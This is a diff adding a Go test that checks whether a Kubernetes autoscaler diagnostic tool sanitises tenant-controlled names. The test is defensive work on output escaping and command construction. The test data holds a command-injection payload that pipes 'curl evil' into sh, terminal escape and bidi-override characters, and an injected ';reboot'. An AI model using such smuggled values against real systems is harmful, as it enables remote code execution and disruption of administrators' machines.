@@ -392,6 +392,35 @@ func TestCustomResource(t *testing.T) {
 	}
 }
 
+// TestHostileNames: a tenant's text moves no cursor, and never becomes part of a command that an administrator pastes.
+func TestHostileNames(t *testing.T) {
+	t.Parallel()
+	const name = "x';curl${IFS}evil|sh;'\x1b[2J\u202e_per_second"
+	w := newWorld(t)
+	w.hpa.Spec.Metrics[0].Pods.Metric.Name = name
+	w.hpa.OwnerReferences = []metav1.OwnerReference{{APIVersion: "keda.sh/v1alpha1", Kind: "ScaledObject", Name: "x;reboot"}}
+	w.answers[strings.Replace(podsMetricPath, "request_per_second", name, 1)] = newAdapterStatus(http.StatusNotFound, metav1.StatusReasonNotFound,
+		"no rule for metric on pods; nearest: "+name)
+	report := w.run("web")
+	var out bytes.Buffer
+	if err := report.Print(&out, false); err != nil {
+		t.Fatal(err)
+	}
+	if strings.ContainsAny(out.String(), "\x1b\u202e") {
+		t.Errorf("control characters are printed: %q", out.String())
+	}
+	found := false
+	for _, c := range report.Checks {
+		found = found || c.Name == "metric" && strings.Contains(c.Message, "nearest: x';curl")
+		if strings.Contains(c.Fix, ";curl") || strings.Contains(c.Fix, ";reboot") {
+			t.Errorf("a tenant's text is part of a command: %s", c.Fix)
+		}
+	}
+	if !found {
+		t.Errorf("the answer of the adapter is not there: %+v", report.Checks)
+	}
+}
+
 func TestUnknownAutoscaler(t *testing.T) {
 	t.Parallel()
 	if first := newWorld(t).run("wep").First(); first == nil || first.Name != "autoscaler" || first.Status != StatusFail {
